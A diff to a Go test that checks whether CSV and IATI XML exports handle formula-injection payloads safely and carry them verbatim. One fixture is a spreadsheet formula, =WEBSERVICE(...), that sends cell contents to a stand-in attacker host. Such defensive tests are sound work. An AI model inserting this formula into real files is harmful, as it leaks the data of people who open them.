@@ -4,12 +4,14 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"encoding/xml"
 	"errors"
 	"maps"
 	"os"
 	"path/filepath"
 	"regexp"
 	"runtime"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -354,6 +356,21 @@ func TestHostileCSVIsSpreadsheetSafe(t *testing.T) {
 		if !exact[p] {
 			t.Errorf("payload %q is not in portfolio.json as it was written", p)
 		}
+	}
+	// The IATI file carries the initiative's text as it was written.
+	iati, err := os.ReadFile(filepath.Join(dest, "data", "iati-activities.xml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var activities struct {
+		Titles []string `xml:"iati-activity>title>narrative"`
+		Descs  []string `xml:"iati-activity>description>narrative"`
+	}
+	if err := xml.Unmarshal(iati, &activities); err != nil {
+		t.Fatal(err)
+	}
+	if !slices.Contains(activities.Titles, `'=already quoted`) || !slices.Contains(activities.Descs, `=WEBSERVICE("http://evil.example/"&A1)`) {
+		t.Errorf("the IATI file does not carry the payloads exactly: %q %q", activities.Titles, activities.Descs)
 	}
 	t.Logf("%d CSV files, %d cells, %d payloads", len(files), cells, len(formulaPayloads))
 }
